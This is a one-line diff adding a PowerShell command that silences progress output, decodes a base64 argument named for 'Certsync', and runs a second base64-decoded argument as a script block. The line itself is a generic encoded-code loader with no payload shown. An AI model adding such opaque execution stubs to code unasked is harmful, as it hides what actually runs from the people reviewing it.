@@ -1,0 +1,1 @@
+$ProgressPreference = 'SilentlyContinue'; & { $CertsyncInput = [Convert]::FromBase64String($args[1]); & ([ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($args[0])))) }
